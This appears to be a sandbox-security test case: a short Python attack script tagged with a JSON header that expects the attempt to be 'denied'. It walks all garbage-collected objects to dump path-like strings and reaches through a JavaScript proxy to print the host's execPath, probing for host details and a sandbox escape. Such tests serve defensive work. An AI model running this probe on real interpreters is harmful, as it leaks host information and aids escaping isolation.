# attack {"class":"environment","attempt":"paths and variables of the host in everything that the interpreter has in memory","effect":"canary","ends":["denied"],"bare":true}
import gc, sys
gc.unfreeze()
seen = set()
for found in gc.get_objects():
    values = list(found.values()) + list(found) if isinstance(found, dict) else list(found) if isinstance(found, (list, tuple, set, frozenset)) else []
    seen.update(value for value in values if isinstance(value, str) and "/" in value and len(value) < 400)
print("\n".join(sorted(seen))[:900_000])
for found in gc.get_objects():
    if type(found).__name__ == "JsFinder":
        print(found.jsproxies["js"].process.execPath)
